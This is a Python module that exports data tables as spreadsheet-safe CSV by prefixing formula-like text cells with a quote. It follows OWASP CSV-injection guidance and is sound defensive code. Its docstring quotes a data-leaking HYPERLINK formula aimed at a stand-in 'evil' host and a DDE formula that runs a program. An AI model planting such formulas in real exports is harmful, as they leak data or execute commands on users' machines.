"""Export a table as CSV that is safe to open in a spreadsheet.

A text cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return) is run as a formula by Excel, LibreOffice and Google
Sheets: ``=HYPERLINK("http://evil/?"&A1, "click")`` leaks data and
``=cmd|' /C calc'!A0`` runs a program. Our free-text columns (notes,
perpetrator, target, headlines) come from news texts and coders, so an
export must not hand them to a spreadsheet as formulas.

Rules (OWASP "CSV Injection"):

- a text cell whose first character, or first character after leading
  white space, is one of ``= + - @``, a tab, a carriage return, or the
  full-width forms ``＝ ＋ － ＠`` gets a single quote ``'`` in front; the
  spreadsheet then shows it as text. The quote is visible to programs that
  read the CSV: this export is for people with spreadsheets, not for
  re-import (``data/`` holds the real tables).
- numbers stay numbers. Numeric columns are written as they are: ``-3`` in
  an ``Int64`` or ``float`` column is the number minus three, which a
  spreadsheet parses as a constant, never as a formula. A text cell that is
  a plain number (``-3``, ``+1.5``, ``-2e3``) is left alone for the same
  reason; ``-1+1`` is not a plain number (Excel evaluates it) and is
  prefixed.
- column names are text cells too and follow the same rule.
- missing values stay missing (an empty cell).
- quoting is standard CSV (``"`` doubled inside quoted cells), UTF-8,
  LF line endings, no index column.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd

from analysis.files import write_bytes_atomic

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""First characters that make a spreadsheet read a cell as a formula (OWASP, plus full-width forms)."""
QUOTE_PREFIX = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise_cell(value):
    """Prefix one text cell with ``'`` when a spreadsheet would run it as a formula.

    >>> neutralise_cell('=HYPERLINK("http://x")')
    '\\'=HYPERLINK("http://x")'
    >>> neutralise_cell("@SUM(A1)"), neutralise_cell("  +cmd"), neutralise_cell("\\t=1")
    ("'@SUM(A1)", "'  +cmd", "'\\t=1")
    >>> neutralise_cell("-3"), neutralise_cell("-1+1"), neutralise_cell("Ain al-Asad")
    ('-3', "'-1+1", 'Ain al-Asad')
    >>> neutralise_cell(None) is None, neutralise_cell(7)
    (True, 7)
    """
    if not isinstance(value, str):
        return value
    stripped = value.lstrip(" \u00a0")
    if not stripped and value:
        return value
    if (value[:1] in FORMULA_TRIGGERS or stripped[:1] in FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(
        value.strip()
    ):
        return QUOTE_PREFIX + value
    return value


def _is_missing(value) -> bool:
    return value is None or (not isinstance(value, (str, list, tuple, dict)) and bool(pd.isna(value)))


def _is_text_column(series: pd.Series) -> bool:
    dtype = series.dtype
    return (
        pd.api.types.is_object_dtype(dtype)
        or pd.api.types.is_string_dtype(dtype)
        or isinstance(dtype, pd.CategoricalDtype)
    )


def neutralise_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of ``df`` whose text cells and column names cannot run as formulas.

    Numeric, boolean and date columns are returned unchanged (same dtype);
    text and categorical columns come back as ``object`` columns with
    missing values kept as missing.

    >>> table = pd.DataFrame({"note": ["=1+2", "fine", None], "killed": [-3, 0, 2]})
    >>> neutralise_formulas(table).to_dict("list")
    {'note': ["'=1+2", 'fine', None], 'killed': [-3, 0, 2]}
    """
    out = pd.DataFrame(index=df.index)
    for position, name in enumerate(df.columns):
        column = df.iloc[:, position]
        label = neutralise_cell(name) if isinstance(name, str) else name
        if _is_text_column(column):
            cells = [None if _is_missing(v) else neutralise_cell(v) for v in column.astype(object)]
            column = pd.Series(cells, index=df.index, dtype=object)
        out.insert(position, label, column, allow_duplicates=True)
    return out


def write_csv_safely(df: pd.DataFrame, path: Path | str) -> Path:
    """Write ``df`` as spreadsheet-safe CSV to ``path`` (atomically) and return the path.

    See the module docstring for the rules.
    """
    buffer = io.StringIO()
    neutralise_formulas(df).to_csv(buffer, index=False, lineterminator="\n", quoting=csv.QUOTE_MINIMAL)
    write_bytes_atomic(Path(path), buffer.getvalue().encode("utf-8"))
    return Path(path)
